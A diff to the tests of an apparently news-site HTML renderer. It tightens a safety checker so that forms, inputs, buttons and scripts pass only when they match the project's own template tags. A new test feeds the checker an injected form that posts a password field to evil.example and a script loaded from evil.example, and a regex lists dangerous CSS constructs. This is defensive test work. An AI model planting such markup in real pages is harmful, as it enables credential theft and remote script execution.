@@ -156,8 +156,28 @@ OURS = _template_blocks()
 DANGEROUS_STYLE = re.compile(r"url\(|expression\(|javascript:|@import|behavior|position\s*:\s*fixed", re.I)
 
 
+def _template_tags() -> dict[str, list[dict[str, str | None]]]:
+    """Start tags of forms, inputs, buttons, scripts and noscripts in our templates: {tag: [{attribute: literal or None}]}.
+
+    None stands for a value the template fills in (its URL is still checked like any other).
+    """
+    from newsroom.render.html import TEMPLATES
+
+    found: dict[str, list[dict[str, str | None]]] = {}
+    for template in TEMPLATES.rglob("*.html"):
+        text = template.read_text(encoding="utf-8")
+        for match in re.finditer(r"<(form|input|button|script|noscript)\b([^>]*)>", text):
+            attributes = {name: (None if "{" in (value or "") else (value or ""))
+                          for name, value in re.findall(r'([a-z-]+)(?:="([^"]*)")?', match.group(2))}
+            found.setdefault(match.group(1), []).append(attributes)
+    return found
+
+
+OUR_TAGS = _template_tags()
+
+
 def _ours(tag: str, element: Any) -> bool:
-    """A script or style element the templates wrote: a literal block, or JSON-LD that is only JSON."""
+    """An element the templates wrote: a literal block, JSON-LD that is only JSON, or a template's own tag."""
     body = (element.text or "").strip()
     if tag == "script" and element.get("type") == "application/ld+json":
         try:
@@ -165,7 +185,11 @@ def _ours(tag: str, element: Any) -> bool:
         except ValueError:
             return False
         return len(element) == 0
-    return body in OURS and len(element) == 0
+    if tag in ("script", "style") and body:
+        return body in OURS and len(element) == 0
+    attributes = {name.lower(): value for name, value in element.attrib.items()}
+    return any(set(attributes) == set(signature) and all(v is None or attributes[k] == v for k, v in signature.items())
+               for signature in OUR_TAGS.get(tag, []))
 
 
 def _html_problems(document: Any, where: str, *, email_css: bool = False) -> list[str]:
@@ -176,7 +200,7 @@ def _html_problems(document: Any, where: str, *, email_css: bool = False) -> lis
             continue
         tag = element.tag.rsplit("}", 1)[-1].lower()
         email_style = email_css and tag == "style" and not DANGEROUS_STYLE.search(element.text or "")
-        if tag in FORBIDDEN and not email_style and not (tag in ("script", "style") and _ours(tag, element)):
+        if tag in FORBIDDEN and not email_style and not _ours(tag, element):
             problems.append(f"{where}: <{tag}> element")
         if tag == "meta" and element.get("http-equiv", "").lower() == "refresh" \
                 and not OUR_REFRESH.match(element.get("content", "")):
@@ -274,6 +298,8 @@ def test_the_checker_sees_what_it_must():
     assert len(_html_problems(_parse_html(bad), "t")) == 8
     assert len(_html_problems(_parse_html('<script type="application/ld+json">{"a": 1}</script><script>x</script>'),
                               "t")) == 1
+    injected = '<form action="https://evil.example/"><input name="pw"></form><script src="https://evil.example/x.js">'
+    assert len(_html_problems(_parse_html(injected), "t")) == 3
 
 
 @pytest.fixture
